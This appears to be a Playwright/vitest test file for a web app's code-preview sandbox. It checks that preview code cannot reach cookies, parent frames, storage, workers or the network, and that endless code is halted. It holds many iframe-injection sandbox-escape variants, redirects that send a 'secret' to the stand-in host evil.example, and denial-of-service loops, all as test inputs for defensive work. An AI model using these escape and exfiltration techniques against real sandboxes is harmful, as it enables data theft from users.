/** Code in the preview: it reaches nothing of ours, and what never ends leaves the page usable. */
import { expect, test } from 'vitest';
import { app, openAs, useAppAndBrowser } from './app-and-browser.ts';
import { openProject, preview, projectOf } from './code-project.ts';
import { makeMember } from './people.ts';

useAppAndBrowser();

/** Each line tries one thing and says what came of it. */
const attempts = `
const tries = {
  cookies: () => document.cookie = 'a=b',
  'cookies read': () => { if (document.cookie === '') throw new Error('empty'); return document.cookie; },
  parent: () => parent.document.title,
  top: () => top.location.href,
  'top navigation': () => { top.location = 'https://example.com/'; return 'asked'; },
  database: () => indexedDB.open('x') && 'opened',
  caches: () => caches.open('x'),
  workers: () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = yes; w.onerror = () => no(new Error('blocked')); }),
  'a frame within': () => new Promise((yes, no) => { addEventListener('message', (e) => e.data.within && yes(e.data.within)); const f = document.createElement('iframe'); f.srcdoc = '<script>fetch("/api/auth/user").then((r) => parent.postMessage({ within: r.status }, "*"))</scr' + 'ipt>'; document.body.append(f); }),
  'calls in a frame within': () => new Promise((yes) => {
    addEventListener('message', (e) => e.data.rtc && yes(e.data.rtc));
    const code = 'parent.postMessage({ rtc: typeof RTCPeerConnection }, "*")';
    const page = '<script>' + code + '</scr' + 'ipt>';
    const ways = [
      () => { const f = document.createElement('iframe'); f.srcdoc = page; document.body.append(f); },
      () => { const f = document.createElement('iframe'); f.setAttribute('srcdoc', page); document.body.append(f); },
      () => { const f = document.createElement('iframe'); f.src = 'javascript:' + code; document.body.append(f); },
      () => { const f = document.createElement('iframe'); f.name = 'led'; document.body.append(f); const a = document.createElement('a'); a.target = 'led'; a.href = 'javascript:' + code; document.body.append(a); a.click(); },
      () => { const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<IFRAME srcdoc="' + page.replaceAll('"', '&quot;') + '"></IFRAME>'; },
      () => document.body.insertAdjacentHTML('beforeend', '<iframe src=\\'javascript:' + code + '\\'></iframe>'),
      () => document.body.append(document.createRange().createContextualFragment('<iframe srcdoc="' + page.replaceAll('"', '&quot;') + '"></iframe>')),
      () => document.body.append(document.importNode(new DOMParser().parseFromString('<x:iframe xmlns:x="http://www.w3.org/1999/xhtml" srcdoc="' + page.replaceAll('"', '&quot;').replaceAll('<', '&lt;') + '"/>', 'application/xml').documentElement, true)),
      () => document.body.append(document.importNode(new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e "&#60;b:iframe xmlns:b=\\'http://www.w3.org/1999/xhtml\\' src=\\'javascript:' + code.replaceAll('"', '&quot;') + '\\'/>">]><a>&e;</a>', 'application/xml').documentElement, true)),
      () => { const a = document.createAttribute('srcdoc'); a.value = page; const f = document.createElement('iframe'); f.setAttributeNode(a); document.body.append(f); },
      () => { const t = document.createElement('template'); t.innerHTML = '<iframe srcdoc="' + page.replaceAll('"', '&quot;') + '"></iframe>'; document.body.append(t.content.cloneNode(true)); },
      () => { const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'); f.setAttributeNS(null, 'srcdoc', page); document.body.append(f); },
      () => { const o = document.createElement('object'); o.data = 'javascript:' + code; document.body.append(o); },
      () => trustedTypes.createPolicy('own', { createHTML: (text) => text }),
    ];
    for (const way of ways) try { way(); } catch {}
  }),
  'service worker': () => navigator.serviceWorker.register('/x.js'),
  window: () => { const opened = open('https://example.com/'); if (!opened) throw new Error('null'); return 'opened'; },
  eval: () => eval('1 + 1'),
  fetch: () => fetch('/api/auth/user').then((r) => r.status),
  'fetch outside': () => fetch('https://example.com/'),
  socket: () => new Promise((yes, no) => { const s = new WebSocket('wss://example.com'); s.onopen = yes; s.onerror = () => no(new Error('closed')); }),
  beacon: () => new Promise((yes, no) => { addEventListener('securitypolicyviolation', () => no(new Error('policy'))); navigator.sendBeacon('/api/x', 'x'); }),
  picture: () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new Error('blocked')); i.src = '/favicon.ico?' + Math.random(); }),
  script: () => new Promise((yes, no) => { const s = document.createElement('script'); s.onload = yes; s.onerror = () => no(new Error('blocked')); s.src = '/assets/x.js'; document.head.append(s); }),
  peers: () => new RTCPeerConnection().createOffer(),
  'peers by another name': () => new webkitRTCPeerConnection().createOffer(),
};
for (const [name, attempt] of Object.entries(tries)) {
  const box = document.createElement('li');
  document.querySelector('ul').append(box);
  box.dataset.name = name;
  const late = new Promise((yes, no) => setTimeout(() => no(new Error('nothing')), 3000));
  Promise.race([Promise.resolve().then(attempt), late]).then((got) => box.textContent = 'GOT ' + got, (error) => box.textContent = 'no: ' + error.message);
}
localStorage.setItem('own', '1');
`;

test('code in the preview reaches nothing: no cookies, parent, storage, network, windows or workers', async () => {
  const member = await makeMember(app, 'coder');
  const opened = await openAs(member, { width: 1440 });
  const { page } = opened;
  const requested: string[] = [];
  page.on('request', (request) => requested.push(request.url()));
  await openProject(
    page,
    member,
    projectOf({
      'index.html': '<ul></ul><script type="module" src="a.js"></script>',
      'a.js': attempts,
    }),
  );
  const items = preview(page).locator('li');
  await expect.poll(async () => (await items.allTextContents()).filter(Boolean).length).toBeGreaterThan(19);
  const got = await items.evaluateAll((all) =>
    all
      .filter((one) => one.textContent?.startsWith('GOT'))
      .map((one) => `${(one as HTMLElement).dataset.name}: ${one.textContent}`),
  );
  // Asking the page above to leave throws or does nothing; the address below shows which.
  expect(got.filter((one) => !one.startsWith('top navigation'))).toEqual([]);
  expect(page.url()).toContain('/code-generator?work=');
  expect(page.context().pages()).toHaveLength(1);
  expect(requested.filter((url) => url.includes('example.com') || url.includes('/api/x'))).toEqual([]);
  expect(await page.evaluate(() => [localStorage.getItem('own'), document.cookie.includes('a=b')])).toEqual([
    null,
    false,
  ]);
  await opened.close();
});

test('a preview that leads its frame elsewhere is ended, and gives itself no hosts to call', async () => {
  const member = await makeMember(app, 'coder');
  const opened = await openAs(member, { width: 1440 });
  const { page } = opened;
  await page.route('https://evil.example/**', (route) => route.fulfill({ body: 'reached' }));
  const answered: string[] = [];
  page.on('response', (response) => answered.push(response.url()));
  for (const code of [
    `if (!location.search) location = '/sandbox/preview?hosts=evil.example';`,
    `location = '/sandbox/preview?grant=evil.example~9999999999999~x';`,
    `location.reload();`,
    `location = 'https://evil.example/?secret';`,
    `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=https://evil.example/?secret">';`,
  ]) {
    await openProject(page, member, projectOf({ 'main.js': `${code}\nfetch('https://evil.example/x');` }));
    await page
      .getByText(/tried to open another page|stopped responding/)
      .first()
      .waitFor();
  }
  // The policy of the page around it blocks each before it is sent.
  expect(answered.filter((url) => url.startsWith('https://evil.example'))).toEqual([]);

  // Hosts that somebody allows are called.
  await page.route('https://api.example.com/**', (route) =>
    route.fulfill({ body: 'from outside', headers: { 'access-control-allow-origin': '*' } }),
  );
  await openProject(
    page,
    member,
    projectOf({
      'main.js': `fetch('https://api.example.com/a').then((r) => r.text(), () => 'blocked').then((text) => document.body.textContent = text);`,
    }),
  );
  await preview(page).getByText('blocked').waitFor();
  await page.getByRole('button', { name: 'Network access' }).click();
  await page.getByRole('textbox', { name: 'Allowed hosts' }).fill('api.example.com');
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await preview(page).getByText('from outside').waitFor();
  await opened.close();
});

const endless = {
  'a loop': 'while (true) {}',
  'a loop of promises': 'async function go() { while (true) await null; } go();',
  memory: 'const all = []; while (true) all.push(new Array(1000).fill(1));',
  'recursion that never ends': 'function f() { try { f() } finally { f() } } f();',
};

test('code that never ends is stopped, and the page stays usable', async () => {
  const member = await makeMember(app, 'coder');
  const opened = await openAs(member, { width: 1440 });
  const { page } = opened;
  for (const code of Object.values(endless)) {
    await openProject(page, member, projectOf({ 'main.js': code }));
    // Stopped from within, or removed where it was too busy to say so.
    await page
      .getByText(/ran for 2 seconds without a pause|stopped responding/)
      .first()
      .waitFor();
    await page.getByRole('textbox', { name: 'main.js' }).fill('document.body.textContent = "Better";');
    await page.getByRole('button', { name: 'Reload preview' }).click();
    await preview(page).getByText('Better').waitFor();
  }
  await page.getByRole('button', { name: 'Stop preview' }).click();
  await page.getByText('The preview is stopped.').waitFor();
  await page.getByRole('button', { name: 'Run again' }).click();
  await preview(page).getByText('Better').waitFor();
  await opened.close();
});
